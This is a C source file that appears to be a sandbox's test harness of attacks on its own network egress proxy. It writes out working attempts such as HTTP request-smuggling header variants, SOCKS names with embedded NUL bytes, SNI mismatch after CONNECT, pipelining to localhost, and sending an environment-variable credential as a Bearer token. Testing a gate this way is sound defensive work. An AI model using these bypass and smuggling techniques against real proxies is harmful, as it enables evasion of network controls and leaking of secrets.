/* SPDX-License-Identifier: Apache-2.0 */
/* attack/attack-gate.c - attempts to reach by the gate what it must not reach
 *
 * A control has no gate: it dials the host itself. Where the gate's answer is
 * the evidence there is nothing to dial outside, and the control is part of the
 * attempt: the gate must answer a plain request as it should, or there is no
 * result.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack/attack.h"
#include "base/own.h"

enum { REPLY_MAX = 512, DNS_HEADER = 12, DNS_RCODE = 3, TEXT_MAX = 1024,
       HELLO_MAX = 512 };

/* A connection to a proxy; in a control, to @host instead. FTP_PROXY is the one
 * that names SOCKS in every profile.
 */
static int dial_proxy(const struct attack *a, bool socks, const char *host,
		      const char *port)
{
	const char *url = getenv(socks ? "FTP_PROXY" : "HTTP_PROXY");
	const char *colon = url ? strrchr(url, ':') : NULL;
	char number[16];

	if (a->control)
		return attack_dial(host, port, SOCK_STREAM);
	snprintf(number, sizeof(number), "%ld",
		 colon ? strtol(colon + 1, NULL, 10) : socks ? 1080 : 3128);
	return attack_dial("127.0.0.1", number, SOCK_STREAM);
}

/* Send @n bytes to a proxy, take its answer, then say our word */
static int by_proxy(struct attack *a, bool socks, const char *host,
		    const char *port, const void *bytes, size_t n)
{
	auto_close int fd = dial_proxy(a, socks, host, port);
	char reply[REPLY_MAX];
	ssize_t got = 0;
	int r;

	if (fd < 0 || send(fd, bytes, n, MSG_NOSIGNAL) < 0)
		return -errno;
	if (!a->control)
		got = recv(fd, reply, sizeof(reply), 0);
	if (got > 0)
		attack_learn(a, reply, (size_t)got);
	r = attack_say(a, fd);
	if (!a->control && (got <= 0 || memmem(reply, (size_t)got, " 403 ", 5) ||
			    memmem(reply, (size_t)got, " 400 ", 5)))
		return -EACCES;
	return r;
}

static int connect_request(const char *host, const char *port, char *ret)
{
	return snprintf(ret, TEXT_MAX, "CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n",
			host, port, host, port);
}

/* The address to dial for a control: without brackets and user */
static const char *plain_host(const char *host, char *ret, size_t size)
{
	const char *at = strchr(host, '@');

	snprintf(ret, size, "%s", at ? at + 1 : host);
	if (ret[0] != '[')
		return ret;
	ret[strcspn(ret, "]")] = '\0';
	return ret + 1;
}

/* HOST PORT */
static int proxy_connect(struct attack *a)
{
	char text[TEXT_MAX], host[64];
	const int n = connect_request(a->argv[0], a->argv[1], text);

	return by_proxy(a, false, plain_host(a->argv[0], host, sizeof(host)),
			a->argv[1], text, (size_t)n);
}

/* URI-HOST PORT HEADER-HOST DIAL-HOST [SOCKET] */
static int proxy_fetch(struct attack *a)
{
	char text[TEXT_MAX];
	const int n = snprintf(text, sizeof(text), "GET http://%s:%s/%s HTTP/1.1\r\nHost: %s%s%.300s\r\nConnection: close\r\n\r\n",
			       a->argv[0], a->argv[1], a->word ?: "", a->argv[2],
			       a->argv[4] ? "\r\nX-Unix-Socket: " : "",
			       a->argv[4] ?: "");

	return by_proxy(a, false, a->argv[3], a->argv[1], text, (size_t)n);
}

/* VARIABLE HOST PORT [tunnel]: what the variable holds as a credential, in plain HTTP by
 * proxy or through a tunnel
 */
static int bound_request(struct attack *a)
{
	const char *host = a->argv[1], *port = a->argv[2];
	const bool tunnel = a->argv[3];
	char text[TEXT_MAX], head[TEXT_MAX], reply[REPLY_MAX];
	const int n = snprintf(text, sizeof(text), "GET %s%s%s%s/%s HTTP/1.1\r\nHost: %s:%s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n",
			       tunnel ? "" : "http://", tunnel ? "" : host,
			       tunnel ? "" : ":", tunnel ? "" : port,
			       a->word ?: "", host, port, getenv(a->argv[0]) ?: "");
	auto_close int fd = dial_proxy(a, false, host, port);
	ssize_t got;

	if (fd < 0 || !getenv(a->argv[0]))
		return fd < 0 ? -errno : -ENOENT;
	if (tunnel && !a->control &&
	    (send(fd, head, (size_t)connect_request(host, port, head), MSG_NOSIGNAL) < 0 ||
	     recv(fd, reply, sizeof(reply), 0) <= 0))
		return -EACCES;
	if (send(fd, text, (size_t)n, MSG_NOSIGNAL) < 0)
		return -errno;
	if (a->control)
		return 0;
	got = recv(fd, reply, sizeof(reply), 0);
	return got <= 0 || memmem(reply, (size_t)got, " 403 ", 5) ? -EACCES : 0;
}

/* HOST PORT: straight, then by proxy */
static int tcp_or_proxy(struct attack *a)
{
	const int r = attack_find("tcp")->fn(a);

	return a->control ? r : proxy_connect(a);
}

static int reloaded(struct attack *a)
{
	attack_after_host(a);
	return tcp_or_proxy(a);
}

/* NAME PORT OTHER-PORT: a name that the host's resolver knows as this machine */
static int proxy_both_ports(struct attack *a)
{
	char *second[] = { a->argv[0], a->argv[2], NULL };
	const int r = proxy_connect(a);

	a->argv = second;
	return proxy_connect(a) == 0 ? 0 : r;
}

/* "\xx" stands for a byte */
static size_t unescape(const char *text, char *ret)
{
	size_t n = 0;

	while (*text) {
		const char pair[3] = { text[0] == '\\' ? text[1] : '\0',
				       text[0] == '\\' ? text[2] : '\0', '\0' };

		ret[n++] = *pair ? (char)strtoul(pair, NULL, 16) : *text;
		text += *pair ? 3 : 1;
	}
	return n;
}

/* A host name with bytes that some would stop at, and others skip */
static int odd_name(struct attack *a)
{
	char text[TEXT_MAX], name[TEXT_MAX / 4];
	const size_t n = strlen(a->argv[0]) < sizeof(name)
			 ? unescape(a->argv[0], name) : 0;
	size_t len = 0;

	for (int i = 0; i < 2; i++) {
		len += (size_t)snprintf(text + len, sizeof(text) - len, "%s",
					i ? "\r\nHost: " : "CONNECT ");
		memcpy(text + len, name, n);
		len += n;
		len += (size_t)snprintf(text + len, sizeof(text) - len, ":%s%s",
					a->argv[1],
					i ? "\r\n\r\n" : " HTTP/1.1");
	}
	return by_proxy(a, false, "127.0.0.1", a->argv[1], text, len);
}

/* One exchange with the gate: bytes received, or -1 with errno */
static ssize_t exchange(const struct attack *a, bool socks, const void *bytes,
			size_t n, char *reply)
{
	auto_close int fd = dial_proxy(a, socks, "127.0.0.1", "0");

	if (fd < 0 || send(fd, bytes, n, MSG_NOSIGNAL) < 0)
		return -1;
	return recv(fd, reply, REPLY_MAX, 0);
}

static bool says(const char *reply, ssize_t n, const char *text)
{
	return n > 0 && memmem(reply, (size_t)n, text, strlen(text));
}

/* HOST PORT: a tunnel is promised before it is refused */
static int promise(struct attack *a)
{
	char text[TEXT_MAX], reply[REPLY_MAX];
	const int length = connect_request(a->argv[0], a->argv[1], text);
	ssize_t n;

	if (a->control)
		return 0;
	n = exchange(a, false, text, (size_t)length, reply);
	if (n < 0)
		return -errno;
	return says(reply, n, " 403 ") ? -EACCES :
	       says(reply, n, "HTTP/1.1 2") ? 0 : -ATTACK_NOTHING;
}

/* Requests that two readers would end at different places */
static int smuggle(struct attack *a)
{
	static const char *const headers[] = {
		"Content-Length: 5\r\nTransfer-Encoding: chunked",
		"Content-Length: 5\r\nContent-Length: 6",
		"Content-Length: 5, 5", "Content-Length: +5",
		"Content-Length: 0x5", "Content-Length: 5 5",
		"Transfer-Encoding: xchunked", "Transfer-Encoding : chunked",
		"Transfer-Encoding: chunked, identity",
		"Content-Length: 5\n", "X: a\r\n folded", "X: a\rb",
	};
	static const char plain[] = "GET http://not-allowed.invalid/ HTTP/1.1\r\nHost: not-allowed.invalid\r\n\r\n";
	char text[TEXT_MAX], reply[REPLY_MAX];
	int r = a->control ? 0 : -EACCES;

	if (!a->control && !says(reply, exchange(a, false, plain,
						 sizeof(plain) - 1, reply),
				 " 403 "))
		return -ATTACK_NOTHING;
	for (size_t i = 0; i < ARRAY_SIZE(headers) && !a->control; i++) {
		const int n = snprintf(text, sizeof(text), "POST http://localhost:%s/ HTTP/1.1\r\nHost: localhost:%s\r\n%s\r\n\r\n0\r\n\r\n",
				       a->argv[0], a->argv[0], headers[i]);
		const ssize_t got = exchange(a, false, text, (size_t)n, reply);

		if (got > 0 && !says(reply, got, " 400 "))
			r = 0;
	}
	return r;
}

/* HOST PORT: allowed, then 127.0.0.1 on the same connection: straight after it,
 * and when the answer is there
 */
static int pipeline(struct attack *a)
{
	auto_close int fd = dial_proxy(a, false, "127.0.0.1", a->argv[1]);
	char text[TEXT_MAX], reply[REPLY_MAX];
	int n = 0;

	if (!a->control)
		n = snprintf(text, sizeof(text), "GET http://%s:%s/ HTTP/1.1\r\nHost: %s:%s\r\n\r\n",
			     a->argv[0], a->argv[1], a->argv[0], a->argv[1]);
	snprintf(text + n, sizeof(text) - (size_t)n, "GET http://127.0.0.1:%s/%s HTTP/1.1\r\nHost: 127.0.0.1:%s\r\n\r\n",
		 a->argv[1], a->word ?: "", a->argv[1]);
	if (fd < 0 || send(fd, text, strlen(text), MSG_NOSIGNAL) < 0)
		return -errno;
	while (!a->control && recv(fd, reply, sizeof(reply), 0) > 0)
		(void)!send(fd, text + n, strlen(text + n), MSG_NOSIGNAL);
	return -EACCES;
}

/* Between a client and the proxy, both in the sandbox */
static void relay(int listener, int to)
{
	char bytes[4096];
	const int from = accept(listener, NULL, NULL);
	struct pollfd p[2] = {
		{ .fd = from, .events = POLLIN }, { .fd = to, .events = POLLIN },
	};

	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (poll(p, 2, -1) > 0) {
		const int ready = p[0].revents ? 0 : 1;
		const ssize_t n = recv(p[ready].fd, bytes, sizeof(bytes), 0);

		if (n <= 0 || send(p[!ready].fd, bytes, (size_t)n,
				   MSG_NOSIGNAL) < 0)
			break;
	}
	_exit(0);
}

/* HOST PORT */
static int relayed_connect(struct attack *a)
{
	struct sockaddr_in own = {
		.sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	socklen_t n = sizeof(own);
	auto_close int to = dial_proxy(a, false, "127.0.0.1", a->argv[1]);
	auto_close int listener = socket(AF_INET, SOCK_STREAM, 0);
	auto_close int fd = -1;
	char text[TEXT_MAX], reply[REPLY_MAX], port[16];
	int r;

	if (to < 0 || bind(listener, (struct sockaddr *)&own, n) < 0 ||
	    listen(listener, 1) < 0 ||
	    getsockname(listener, (struct sockaddr *)&own, &n) < 0)
		return -errno;
	if (fork() == 0)
		relay(listener, to);
	snprintf(port, sizeof(port), "%d", ntohs(own.sin_port));
	fd = attack_dial("127.0.0.1", port, SOCK_STREAM);
	r = connect_request(a->argv[0], a->argv[1], text);
	if (fd < 0 || (!a->control &&
		       (send(fd, text, (size_t)r, MSG_NOSIGNAL) < 0 ||
			recv(fd, reply, sizeof(reply), 0) <= 0)))
		return -errno;
	r = attack_say(a, fd);
	if (a->control)
		(void)shutdown(fd, SHUT_WR);
	while (recv(fd, reply, sizeof(reply), 0) > 0)
		;
	return a->control ? r : -EACCES;
}

/* A TLS ClientHello that asks for "WORD.example.net": a listener reads the name
 * as our word
 */
static size_t make_hello(const struct attack *a, unsigned char *p)
{
	static const unsigned char start[] = {
		22, 3, 1, 0, 0,			/* Handshake; length */
		1, 0, 0, 0, 3, 3,		/* ClientHello; length */
	};
	char name[64];
	size_t n = sizeof(start), name_len;

	snprintf(name, sizeof(name), "%.*s.example.net",
		 (int)strcspn(a->word ?: "x", ";"), a->word ?: "x");
	name_len = strlen(name);
	memcpy(p, start, n);
	memset(p + n, 7, 32);			/* Random */
	n += 32;
	memcpy(p + n, "\0\0\2\x13\1\1\0", 7);	/* One cipher */
	n += 7;
	p[n++] = 0;
	p[n++] = (unsigned char)(name_len + 9);	/* Extensions */
	memcpy(p + n, "\0\0\0", 3);		/* server_name */
	n += 3;
	p[n++] = (unsigned char)(name_len + 5);
	p[n++] = 0;
	p[n++] = (unsigned char)(name_len + 3);
	memcpy(p + n, "\0\0", 2);		/* A host name */
	n += 2;
	p[n++] = (unsigned char)name_len;
	memcpy(p + n, name, name_len);
	n += name_len;
	p[4] = (unsigned char)(n - 5);
	p[8] = (unsigned char)(n - 9);
	return n;
}

/* HOST PORT: allowed is the host of CONNECT, asked for another */
static int other_sni(struct attack *a)
{
	auto_close int fd = dial_proxy(a, false, "127.0.0.1", a->argv[1]);
	unsigned char hello[HELLO_MAX];
	char text[TEXT_MAX], reply[REPLY_MAX];
	const int n = connect_request(a->argv[0], a->argv[1], text);

	if (fd < 0 || (!a->control &&
		       (send(fd, text, (size_t)n, MSG_NOSIGNAL) < 0 ||
			recv(fd, reply, sizeof(reply), 0) <= 0)) ||
	    send(fd, hello, make_hello(a, hello), MSG_NOSIGNAL) < 0)
		return -errno;
	/* It is cut, or nothing answers: both end the wait */
	return a->control || recv(fd, reply, sizeof(reply), 0) > 0 ? 0
								    : -EACCES;
}

/* KIND HOST PORT: SOCKS5 to an address, to a name, or to a name with a NUL in
 * it. Greeting and request in one go; the proxy answers both.
 */
static int socks_connect(struct attack *a)
{
	static const char tail[] = "\0.example.com";
	const char *host = a->argv[1];
	const long port = strtol(a->argv[2], NULL, 10);
	const bool nul = !strcmp(a->argv[0], "nul");
	char text[300] = "\5\1\0\5\1\0";
	size_t n = 6, len = strlen(host);
	int r;

	if (!strcmp(a->argv[0], "ip")) {
		text[n++] = 1;
		(void)inet_pton(AF_INET, host, text + n);
		n += 4;
	} else {
		text[n++] = 3;
		text[n++] = (char)(len + (nul ? sizeof(tail) - 1 : 0));
		memcpy(text + n, host, len);
		n += len;
		memcpy(text + n, tail, nul ? sizeof(tail) - 1 : 0);
		n += nul ? sizeof(tail) - 1 : 0;
	}
	text[n++] = (char)(port >> 8);
	text[n++] = (char)port;
	r = by_proxy(a, true, host, a->argv[2], text, n);
	return !a->control && a->found.len >= 4 && a->found.bytes[3] ? -EACCES : r;
}

/* COMMAND PORT: BIND, UDP ASSOCIATE; 0 stands for version 4 */
static int socks_command(struct attack *a)
{
	char text[16] = "\5\1\0\5\0\0\1\177\0\0\1", reply[REPLY_MAX];
	const char command = (char)strtol(a->argv[0], NULL, 10);
	const long port = strtol(a->argv[1], NULL, 10);
	size_t n = 13, at = 11;
	ssize_t got;

	if (a->control)
		return 0;
	text[4] = command;
	if (!command) {
		memcpy(text, "\4\1\0\0\177\0\0\1", 9);
		n = 9;
		at = 2;
	}
	text[at] = (char)(port >> 8);
	text[at + 1] = (char)port;
	if (exchange(a, true, "\5\1\0", 3, reply) != 2 || reply[1])
		return -ATTACK_NOTHING;
	got = exchange(a, true, text, n, reply);
	if (command)
		return got >= 4 && reply[3] == 0 ? 0 : -EACCES;
	return got >= 2 && reply[1] == 90 ? 0 : -EACCES;
}

/* NAME PORT: a question to the gate's DNS about a name that is not allowed; a
 * control asks a server of its own, and hears nothing either
 */
static int dns_query(struct attack *a)
{
	unsigned char text[64] = { 7, 7, 1, 0, 0, 1 }, reply[REPLY_MAX];
	size_t n = DNS_HEADER;
	auto_close int fd = attack_dial("127.0.0.1",
					a->control ? a->argv[1] : "53",
					SOCK_DGRAM);
	ssize_t got;

	for (const char *p = a->argv[0]; *p; p += strcspn(p, ".")) {
		p += *p == '.';
		text[n++] = (unsigned char)strcspn(p, ".");
		memcpy(text + n, p, strcspn(p, "."));
		n += strcspn(p, ".");
	}
	memcpy(text + n, "\0\0\1\0\1", 5);
	if (fd < 0 || send(fd, text, n + 5, MSG_NOSIGNAL) < 0)
		return -errno;
	if (a->control)
		return 0;
	got = recv(fd, reply, sizeof(reply), 0);
	return got >= DNS_HEADER && (reply[DNS_RCODE] & 15) == 0 ? 0 : -EACCES;
}

const struct attempt attack_gate[] = {
	{ "proxy-connect", proxy_connect, 2 }, { "proxy-fetch", proxy_fetch, -1 },
	{ "bound-request", bound_request, -1 },
	{ "tcp-or-proxy", tcp_or_proxy, 2 }, { "reloaded", reloaded, 2 },
	{ "proxy-both-ports", proxy_both_ports, 3 }, { "odd-name", odd_name, 2 },
	{ "promise", promise, 2 }, { "smuggle", smuggle, 1 },
	{ "pipeline", pipeline, 2 }, { "relayed-connect", relayed_connect, 2 },
	{ "other-sni", other_sni, 2 }, { "socks-connect", socks_connect, 3 },
	{ "socks-command", socks_command, 2 }, { "dns-query", dns_query, 2 },
	{ 0 },
};
